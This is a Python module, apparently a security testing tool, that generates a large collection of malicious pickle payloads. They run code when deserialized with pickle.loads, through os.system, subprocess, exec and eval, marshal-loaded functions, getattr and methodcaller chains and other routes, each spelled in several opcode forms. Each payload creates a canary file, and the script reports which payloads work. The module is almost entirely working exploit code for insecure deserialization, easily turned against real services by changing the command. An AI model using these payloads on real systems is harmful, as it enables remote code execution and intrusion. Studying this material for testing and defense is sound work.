"""Pickles that run code where pickle.loads reads them: each leaves a canary, a file, behind.

A gadget is opcodes that leave one object on the stack; `pickled` makes a whole pickle of them, and what is
around it is up to who asks, since it may stand at every place of a request.

`python -m gadgets FOLDER` reads each as pickle.loads does, in this process, and prints those that worked.
"""

import contextlib
import io
import marshal
import os
import pickle
import struct
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

from support import eventually

Call = tuple[str, str, tuple[Any, ...]]


def encoded(value: Any) -> bytes:
    """Opcodes for plain data, without a memo."""
    match value:
        case None:
            return b"N"
        case str():
            raw = value.encode()
            return b"X" + struct.pack("<I", len(raw)) + raw
        case bytes():
            return b"B" + struct.pack("<I", len(value)) + value
        case int():
            return b"J" + struct.pack("<i", value)
        case list():
            return b"](" + b"".join(map(encoded, value)) + b"e"
        case tuple():
            return b"(" + b"".join(map(encoded, value)) + b"t"
        case dict():
            return b"}(" + b"".join(encoded(part) for pair in value.items() for part in pair) + b"u"
    raise TypeError(value)


def pickled(opcodes: bytes) -> bytes:
    return b"\x80\x04" + opcodes + b"."


def calls(canary: Path) -> Iterator[Call]:
    """Things to call, any of which makes the canary."""
    path = str(canary)
    shell, code = f"touch {path}", f"open({path!r}, 'w')"
    script = canary.parent / "script.py"
    script.write_text(code)
    words = ["touch", path]
    yield from (("os", "system", (shell,)), ("posix", "system", (shell,)), ("os", "popen", (shell,)))
    for name in ("Popen", "call", "check_call", "check_output", "run"):
        yield "subprocess", name, (words,)
    yield from (("subprocess", "getoutput", (shell,)), ("subprocess", "getstatusoutput", (shell,)))
    yield from (("os", "spawnlp", (0, "touch", *words)), ("os", "posix_spawn", ("/usr/bin/touch", words, {})))
    yield from (("builtins", "exec", (code,)), ("builtins", "eval", (code,)))
    yield from (
        ("cProfile", "run", (code,)),
        ("profile", "run", (code,)),
        ("runpy", "run_path", (str(script),)),
    )
    for module, name in (
        ("builtins", "open"), ("io", "open"), ("_io", "open"), ("_io", "FileIO"), ("codecs", "open"),
        ("gzip", "open"), ("bz2", "open"), ("lzma", "open"), ("tarfile", "open"), ("zipfile", "ZipFile"),
        ("logging", "FileHandler"),
    ):  # fmt: skip
        yield module, name, (path, "w")
    yield from (("os", "open", (path, 0o101)), ("os", "mkdir", (path,)), ("os", "makedirs", (path,)))
    yield from (
        ("os", "symlink", ("/", path)),
        ("os", "mkfifo", (path,)),
        ("os", "link", (str(script), path)),
    )
    for name in ("copy", "copyfile", "copy2"):
        yield "shutil", name, (str(script), path)
    yield from (
        ("pydoc", "pipepager", ("", shell)),
        ("pickle", "loads", (pickled(_line("os", "system", (shell,))),)),
    )
    yield "_pickle", "loads", (pickled(_line("os", "system", (shell,))),)
    yield "multiprocessing.util", "spawnv_passfds", (b"/usr/bin/touch", words, [])


def _given(args: tuple[Any, ...]) -> bytes:
    return b"(" + b"".join(map(encoded, args)) + b"t"


def _line(module: str, name: str, args: tuple[Any, ...]) -> bytes:
    return b"c" + f"{module}\n{name}\n".encode() + _given(args) + b"R"


def _text(module: str, name: str, args: tuple[Any, ...]) -> bytes:
    return encoded(module) + encoded(name) + b"\x93" + _given(args) + b"R"


def _inst(module: str, name: str, args: tuple[Any, ...]) -> bytes:
    return _given(args)[:-1] + b"i" + f"{module}\n{name}\n".encode()


def _obj(module: str, name: str, args: tuple[Any, ...]) -> bytes:
    return b"(c" + f"{module}\n{name}\n".encode() + _given(args)[1:-1] + b"o"


def gadgets(canary: Path) -> dict[str, bytes]:
    """All of them, by name: every call in every spelling that a pickle has for a call."""
    found = {
        f"{module}.{name} {how.__name__}": how(module, name, args)
        for module, name, args in calls(canary)
        for how in (_line, _text, _inst, _obj)
    }
    code = marshal.dumps(compile(f"open({str(canary)!r}, 'w')", "x", "exec"))
    function = b"ctypes\nFunctionType\n(" + _line("marshal", "loads", (code,)) + encoded({"a": 1}) + b"tR)R"
    got = b"cbuiltins\ngetattr\n(" + _line("importlib", "import_module", ("os",)) + encoded("system") + b"tR"
    return {
        **found,
        "marshal": function,
        "getattr": got + _given((f"touch {canary}",)) + b"R",
        "methodcaller": b"coperator\nmethodcaller\n" + _given(("system", f"touch {canary}")) + b"R("
        + _line("importlib", "import_module", ("os",)) + b"tR",
        "map": b"cbuiltins\nlist\n(cbuiltins\nmap\n(cos\nsystem\n" + encoded([f"touch {canary}"]) + b"tRtR",
        "reduce": b"cfunctools\nreduce\n(cos\nopen\n" + encoded([str(canary), 0o101]) + b"tR",
    }  # fmt: skip


def as_text(canary: Path) -> str:
    """One in protocol 0, which is text, and goes where only text goes."""
    return f"cos\nsystem\n(S'touch {canary}'\ntR."


def works(gadget: bytes, canary: Path) -> bool:
    """Whether it leaves the canary where a pickle is simply loaded."""
    with contextlib.redirect_stdout(io.StringIO()), contextlib.suppress(Exception):
        pickle.loads(pickled(gadget))
    with contextlib.suppress(AssertionError):
        eventually(lambda: os.path.lexists(canary), seconds=2)
        if canary.is_dir() and not canary.is_symlink():
            canary.rmdir()
        else:
            canary.unlink()
        return True
    return False


if __name__ == "__main__":
    aim = Path(sys.argv[1]) / "canary"
    print("\n".join(name for name, gadget in gadgets(aim).items() if works(gadget, aim)))
